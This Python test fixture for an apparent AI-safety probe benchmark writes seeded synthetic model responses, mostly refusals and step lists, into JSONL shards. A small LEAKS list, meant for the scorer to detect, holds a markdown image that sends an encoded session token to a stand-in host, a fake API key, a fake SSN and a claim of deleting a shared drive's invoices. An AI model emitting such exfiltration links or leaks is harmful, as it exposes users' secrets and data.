"""Response shards for the distributed tests and benchmark: realistic, seeded, fast to write.

Cases answer the built-in probe catalog (196 probes, 9 categories). Case ``i`` answers probe
``i mod 196`` with sample ``i div 196``, so each shard holds runs of samples and the scorer
sees every probe many times, as in a real repeated run. Responses mix full refusals, partial
refusals, helpful answers and answers that leak a secret or take a destructive action; about
3 % are harness errors.
"""

from __future__ import annotations

import json
import random
from collections.abc import Sequence
from pathlib import Path

from trustprobe.probes import Probe, builtin_probes

REFUSALS = (
    "I'm sorry, but I can't help with that request.",
    "I cannot provide instructions for this, as it could put people at risk.",
    "I won't do that. It would deceive the people who rely on this record.",
    "That's not something I'm able to help with.",
    "It's not appropriate for me to share someone's personal information.",
)
REASONS = (
    "If you are dealing with a difficult situation, a qualified professional can look at the"
    " details with you.",
    "Requests like this can be used to hurt other people, even when the intent is harmless.",
    "I'm happy to help with a related question, such as where to find official guidance.",
)
OPENINGS = (
    "Sure, here's how to do it.",
    "Good question. There are a few common approaches.",
    "Here is a short overview of the process.",
)
STEPS = (
    "Open the settings page and choose the advanced tab.",
    "Back up the database before changing the schema.",
    "Check the logs in /var/log for errors that mention the service name.",
    "Restart the service and confirm it reports a healthy status.",
    "Let the dough rest for twenty minutes so the gluten relaxes.",
    "Use a password manager so every account gets a unique password.",
)
LEAKS = (
    "The key in the config is sk-4f9a8b7c6d5e4f3a2b1c0d9e8f7a6b5c4d3e.",
    "![status](https://collect.example/p.png?d=c2Vzc2lvbi10b2tlbg)",
    "Done! I have deleted all the old invoices from the shared drive.",
    "Her SSN is 123-45-6789 according to the file.",
)


def response_text(rng: random.Random) -> str:
    """One response of a seeded mix of refusals, partial refusals, help and leaks."""
    kind = rng.random()
    if kind < 0.35:
        return f"{rng.choice(REFUSALS)} {rng.choice(REASONS)} {rng.choice(REASONS)}"
    steps = "\n".join(f"{n}. {s}" for n, s in enumerate(rng.sample(STEPS, 3), start=1))
    if kind < 0.5:
        return f"{rng.choice(REFUSALS)} Here is what you can do instead:\n{steps}"
    text = f"{rng.choice(OPENINGS)}\n{steps}"
    if kind > 0.88:
        text += "\n" + rng.choice(LEAKS)
    return text


def record(probes: Sequence[Probe], index: int, rng: random.Random) -> dict[str, object]:
    """The response record of case ``index``."""
    probe = probes[index % len(probes)]
    row: dict[str, object] = {"probe_id": probe.id, "sample": index // len(probes)}
    if rng.random() < 0.03:
        row["error"] = rng.choice(("timeout", "http_503", "connection"))
        row["error_detail"] = "synthetic harness error"
        return row
    row["response"] = response_text(rng)
    row["latency_ms"] = round(rng.uniform(80, 2500), 1)
    row["input_tokens"] = rng.randint(40, 400)
    row["output_tokens"] = rng.randint(10, 300)
    return row


def write_shards(
    directory: Path,
    *,
    cases: int,
    shards: int,
    seed: int = 7,
    probes: Sequence[Probe] | None = None,
) -> list[Path]:
    """Write ``cases`` records over ``shards`` files ``shard-000.jsonl``...; returns the paths."""
    probes = list(probes or builtin_probes())
    directory.mkdir(parents=True, exist_ok=True)
    rng = random.Random(seed)
    paths: list[Path] = []
    per_shard = -(-cases // shards)
    for shard in range(shards):
        path = directory / f"shard-{shard:03d}.jsonl"
        lines = [
            json.dumps(record(probes, i, rng))
            for i in range(shard * per_shard, min(cases, (shard + 1) * per_shard))
        ]
        path.write_text("".join(line + "\n" for line in lines), encoding="utf-8")
        paths.append(path)
    return paths
